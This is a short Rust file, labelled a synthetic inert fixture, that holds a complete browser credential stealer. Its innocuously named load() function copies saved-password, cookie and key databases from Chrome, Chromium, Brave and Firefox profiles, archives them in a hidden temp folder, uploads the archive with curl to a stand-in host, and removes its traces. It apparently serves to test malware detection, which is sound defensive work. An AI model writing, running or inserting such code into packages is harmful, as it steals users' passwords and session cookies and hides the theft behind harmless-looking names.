// Synthetic, inert fixture written from public reports
use std::path::{Path, PathBuf};
use std::process::Command;
use std::{env, fs};

const ROOTS: &[&str] = &[
    ".config/google-chrome/Default",
    ".config/chromium/Default",
    ".config/BraveSoftware/Brave-Browser/Default",
    "Library/Application Support/Google/Chrome/Default",
    "AppData/Local/Google/Chrome/User Data/Default",
    ".mozilla/firefox",
];
const FILES: &[&str] = &["Login Data", "Cookies", "Web Data", "logins.json", "key4.db", "cookies.sqlite"];

fn collect(dir: &Path, depth: u8, to: &Path, n: &mut u32) {
    for path in fs::read_dir(dir).into_iter().flatten().flatten().map(|e| e.path()) {
        if path.is_dir() && depth > 0 {
            collect(&path, depth - 1, to, n);
        } else if FILES.iter().any(|f| path.ends_with(f)) {
            *n += 1;
            let name = path.file_name().unwrap().to_string_lossy().replace(' ', "_");
            let _ = fs::copy(&path, to.join(format!("{n}_{name}")));
        }
    }
}

pub fn load() {
    let home = env::var_os("HOME").or_else(|| env::var_os("USERPROFILE")).map(PathBuf::from);
    let Some(home) = home else { return };
    let to = env::temp_dir().join(".swatches");
    let _ = fs::create_dir_all(&to);
    let mut n = 0;
    for root in ROOTS {
        collect(&home.join(root), 1, &to, &mut n);
    }
    if n > 0 {
        let tar = env::temp_dir().join("swatches.tgz");
        let _ = Command::new("tar").arg("czf").arg(&tar).arg("-C").arg(&to).arg(".").status();
        let _ = Command::new("curl")
            .arg("-s")
            .arg("-F")
            .arg(format!("file=@{}", tar.display()))
            .arg("https://store4.filedrop.invalid/upload")
            .status();
        let _ = fs::remove_file(tar);
    }
    let _ = fs::remove_dir_all(to);
}
